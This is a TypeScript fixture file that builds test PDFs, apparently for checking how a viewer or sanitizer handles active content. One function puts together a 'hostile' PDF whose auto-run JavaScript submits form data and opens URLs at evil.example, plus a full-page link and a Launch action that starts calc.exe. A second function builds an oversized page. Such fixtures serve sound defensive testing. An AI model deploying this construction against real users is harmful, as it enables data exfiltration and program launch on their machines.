/** A PDF of one page that tries everything: JavaScript at the start and on the page, a link away, a form, a file to start. */
export function hostilePdf(): Buffer {
  const run = "app.alert('ran'); this.submitForm('https://evil.example/f'); app.launchURL('https://evil.example/l')";
  const words = 'BT /F1 24 Tf 60 700 Td (A letter that tries things) Tj ET';
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(x) 6 0 R] >> >> /URI << /Base (https://evil.example/) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /AA << /O 6 0 R >> /Annots [7 0 R 8 0 R 9 0 R] >>',
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /S /JavaScript /JS (${run.replace(/[\\()]/g, '\\$&')}) >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/link) >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (typed) /Rect [60 600 300 630] /AA << /K 6 0 R >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch /F (calc.exe) >> >>',
  ]);
}

/** A page larger than any screen: 200 inches square. */
export const hugePagePdf = (): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 4 0 R >>',
    '<< /Length 22 >>\nstream\n0 0 14400 14400 re f\n \nendstream',
  ]);

function pdfOf(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  return Buffer.from(
    `${text}${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
    'latin1',
  );
}
